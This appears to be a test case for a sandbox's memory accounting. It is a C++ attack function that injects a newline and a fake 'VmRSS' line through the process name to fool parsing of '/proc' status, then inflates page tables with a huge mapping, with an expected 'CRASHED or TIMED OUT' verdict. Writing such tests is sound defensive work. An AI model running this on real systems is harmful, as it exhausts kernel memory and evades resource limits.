// attack: fills page tables under a name that looks like a line of its own accounts
// verdict: CRASHED or TIMED OUT

#include <sys/mman.h>
#include <sys/prctl.h>

bool attack() {
  constexpr std::size_t kPart = std::size_t{2} << 20, kParts = std::size_t{2500} * 256;
  prctl(PR_SET_NAME, "\nVmRSS: x VmPTE");
  char* const memory = static_cast<char*>(
      mmap(nullptr, kPart * kParts, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0));
  madvise(memory, kPart * kParts, MADV_NOHUGEPAGE);
  for (std::size_t part = 0; part < kParts; ++part) {
    madvise(memory + part * kPart, 4096, MADV_POPULATE_READ);
  }
  usleep(500000);
  munmap(memory, kPart * kParts);
  return memory != MAP_FAILED;
}
